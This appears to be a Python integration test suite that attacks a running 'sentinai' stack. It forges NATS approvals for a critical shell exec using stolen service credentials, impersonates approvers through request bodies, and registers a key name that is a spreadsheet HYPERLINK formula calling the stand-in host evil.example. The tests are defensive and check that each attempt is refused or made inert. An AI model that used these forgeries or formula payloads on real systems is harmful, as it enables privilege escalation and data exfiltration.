"""Hostile: someone holding one credential tries to do what only another may, on a running stack.

One `sentinai up` (its embedded nats-server with a user per service, a key file of people). The
attacker has, in turn: no NATS credentials; the collector's and the api's stolen credentials; an
approver's API key and a body that names someone else; the same key under other spellings; the
proposer's own key; and a key whose name is a spreadsheet formula. Each attempt must be refused
where it is made and leave nothing behind: no approval on the bus, no extra approver, no formula.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import nats
import pytest
from nats.aio.msg import Msg
from upstack import UpStack

from sentinai.api.keys import KeyStore
from sentinai.common import natsauth, subjects
from sentinai.common.actions import ExecDebug
from sentinai.common.decisions import ActionApproved

pytestmark = [pytest.mark.integration, pytest.mark.xdist_group("stack")]  # see conftest.py

CHAIN = "twin"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


class People:
    def __init__(self, path: Path) -> None:
        store = KeyStore(path)
        self.tokens: dict[str, str] = {}
        for name, role in [("alice", "approver"), ("bob", "operator"), (FORMULA, "operator")]:
            _, self.tokens[name] = store.add(name, role)  # type: ignore[arg-type]

    def key(self, name: str) -> dict[str, str]:
        return {"x-api-key": self.tokens[name]}


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[UpStack, People]]:
    root = tmp_path_factory.mktemp("least-privilege")
    people = People(root / "api-keys.json")
    stack = UpStack(root, SENTINAI_API_KEYS_FILE=str(root / "api-keys.json"), SENTINAI_LOG_LEVEL="warn")
    try:
        stack.eventually(
            lambda: (
                stack.get("/api/health").status_code == 200
                and stack.get("/api/health").json()["status"] in ("ok", "degraded")
                and any(c["chainId"] == CHAIN for c in stack.get("/api/health").json()["chains"])
            ),
            timeout_s=90,
            what="a stack watching the twin",
        )
        yield stack, people
    finally:
        stack.close()


def post(stack: UpStack, path: str, body: dict[str, Any], headers: dict[str, str]) -> httpx.Response:
    # The api waits up to 5 s for the planner's verdict.
    return httpx.post(stack.api + path, json=body, headers=headers, timeout=20)


def creds(stack: UpStack, user: str) -> Path:
    return natsauth.creds_file(stack.state_dir.resolve() / "nats" / "auth", user)


async def forge_approval(stack: UpStack, as_user: str | None) -> tuple[list[str], list[bytes]]:
    """Publish a forged ActionApproved as ``as_user``; the server's errors and what a watcher saw."""
    errors: list[str] = []

    async def on_error(exc: Exception) -> None:
        errors.append(str(exc))

    watcher = await nats.connect(stack.nats_url, **natsauth.connect_options(creds(stack, natsauth.ADMIN)))
    seen: list[bytes] = []

    async def keep(msg: Msg) -> None:
        seen.append(msg.data)

    sub = await watcher.subscribe(f"{subjects.ACTION_APPROVED}.>", cb=keep)
    await watcher.flush(timeout=5)
    options: dict[str, Any] = {} if as_user is None else natsauth.connect_options(creds(stack, as_user))
    try:
        attacker = await nats.connect(
            stack.nats_url,
            error_cb=on_error,
            allow_reconnect=False,
            max_reconnect_attempts=0,
            connect_timeout=5,
            **options,
        )
    except Exception as exc:
        errors.append(str(exc))
        await sub.unsubscribe()
        await watcher.close()
        return errors, seen
    forged = ActionApproved(
        chain_id=CHAIN,
        action_id="act-forged",
        action=ExecDebug(component="op-geth", command="sh"),
        tier="critical",
        approvers=("alice", "bob"),
        cooldown_s=0,
        reason="forged: two approvers who never approved",
    )
    await attacker.publish(subjects.action_approved(CHAIN), forged.to_json())
    await attacker.publish(subjects.action_command(CHAIN), b'{"forged": true}')
    await asyncio.sleep(1.5)  # the server answers a violation asynchronously
    await attacker.close()
    await sub.unsubscribe()
    await watcher.close()
    return errors, seen


@pytest.mark.parametrize("user", [None, natsauth.ADMIN + "-guess"])
def test_no_credentials_no_bus(attacked: tuple[UpStack, People], user: str | None) -> None:
    stack, _ = attacked
    if user is not None:  # a user the server does not list: a fresh key in a creds file of our own
        forged = stack.state_dir.parent / "guessed"
        natsauth.ensure_users(forged)
        options = natsauth.connect_options(natsauth.creds_file(forged, natsauth.ADMIN))
    else:
        options = {}

    async def attempt() -> str:
        try:
            nc = await nats.connect(
                stack.nats_url, allow_reconnect=False, max_reconnect_attempts=0, connect_timeout=5, **options
            )
        except Exception as exc:
            return str(exc)
        await nc.close()
        return "connected"

    outcome = asyncio.run(asyncio.wait_for(attempt(), 30))
    assert outcome != "connected"
    assert "authorization" in outcome.lower(), outcome


@pytest.mark.parametrize("user", ["collector", "api"])
def test_stolen_service_credentials_cannot_approve(attacked: tuple[UpStack, People], user: str) -> None:
    stack, _ = attacked
    errors, seen = asyncio.run(asyncio.wait_for(forge_approval(stack, user), 60))
    assert any("permissions violation" in e.lower() and subjects.ACTION_APPROVED in e for e in errors), errors
    assert seen == [], "a forged approval reached the bus"
    assert not any(
        "act-forged" in json.dumps(a)
        for a in stack.get("/api/actions", status="all", limit=500).json()["actions"]
    )


def test_identities_come_from_keys_not_from_what_a_body_says(attacked: tuple[UpStack, People]) -> None:
    stack, people = attacked
    # bob (operator) asks for a critical exec: two distinct approvers, neither of them bob.
    asked = post(
        stack,
        "/api/actions",
        {
            "chainId": CHAIN,
            "action": {"kind": "exec_debug", "component": "op-geth", "command": "df -h"},
            "reason": "hostile: a critical request",
        },
        people.key("bob"),
    )
    assert asked.status_code in (200, 202), asked.text
    action_id = asked.json()["actionId"]
    stack.eventually(
        lambda: stack.get(f"/api/actions/{action_id}").status_code == 200, timeout_s=30, what="the request"
    )
    approve = f"/api/actions/{action_id}/approve"

    own = post(stack, approve, {"reason": "mine"}, people.key("bob"))
    assert own.status_code == 409 and "bob" in own.json()["detail"], own.text
    posing = post(stack, approve, {"by": "carol", "reason": "I am carol"}, people.key("alice"))
    assert posing.status_code == 403 and "alice" in posing.json()["detail"], posing.text
    first = post(stack, approve, {"reason": "looks right"}, people.key("alice"))
    assert first.status_code == 200 and first.json()["status"] == "waiting", first.text
    for spelling in ("ALICE", " alice ", "ａｌｉｃｅ"):
        again = post(stack, approve, {"by": spelling, "reason": "again"}, people.key("alice"))
        assert again.status_code == 409, (spelling, again.text)
        assert again.json()["verdict"]["code"] == "same_principal", again.text

    view = stack.get(f"/api/actions/{action_id}").json()
    assert view["status"] == "pending_approval"
    assert [a["by"] for a in view["approvals"]] == ["alice"]
    assert view["refusal"] and "alice" in view["refusal"].lower()
    audit = stack.get("/api/audit", limit=200).json()["items"]
    assert not any(
        r["kind"] == "approved" and r.get("actionId") == action_id and r["actor"] != "alice" for r in audit
    )


def test_a_formula_for_a_name_is_inert_in_the_csv_export(attacked: tuple[UpStack, People]) -> None:
    stack, people = attacked
    asked = post(
        stack,
        "/api/actions",
        {
            "chainId": CHAIN,
            "action": {"kind": "notify", "severity": "low", "text": "=1+1"},
            "reason": "@SUM(A1:A9)",
        },
        people.key(FORMULA),
    )
    assert asked.status_code in (200, 202), asked.text

    def exported() -> list[dict[str, str]] | None:
        text = httpx.get(stack.api + "/api/audit", params={"format": "csv", "limit": 500}, timeout=10).text
        rows = list(csv.DictReader(io.StringIO(text)))
        return [r for r in rows if FORMULA in r.get("actor", "")] or None

    rows = stack.eventually(exported, timeout_s=30, what="the formula principal's request in the CSV")
    for row in rows:
        for column, cell in row.items():
            assert not (cell or "").startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
        assert row["actor"] == "'" + FORMULA
